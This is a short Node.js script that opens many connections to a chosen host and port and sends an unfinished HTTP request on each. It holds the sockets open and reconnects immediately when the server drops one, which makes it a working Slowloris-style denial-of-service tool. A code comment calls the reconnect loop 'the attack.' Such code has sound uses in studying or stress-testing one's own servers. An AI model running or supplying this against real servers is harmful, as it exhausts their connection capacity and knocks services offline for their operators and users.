// Opens COUNT connections to HOST PORT, sends half a request on each, and holds them for MS; prints how many it held.
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

const [host = '', port = '', count = '1', ms = '1000'] = process.argv.slice(2);
let held = 0;
const open = () => {
  const socket = connect({ host, port: Number(port) });
  socket.on('connect', () => {
    held++;
    socket.write(`GET / HTTP/1.1\r\nHost: ${host}:${port}\r\nX-Half:`);
  });
  socket.on('error', () => {});
  // Whoever is sent away comes back: that is the attack.
  socket.on('close', () => setTimeout(open, 10));
};
for (let i = 0; i < Number(count); i++) open();
await delay(Number(ms));
process.stdout.write(JSON.stringify({ held }), () => process.exit(0));
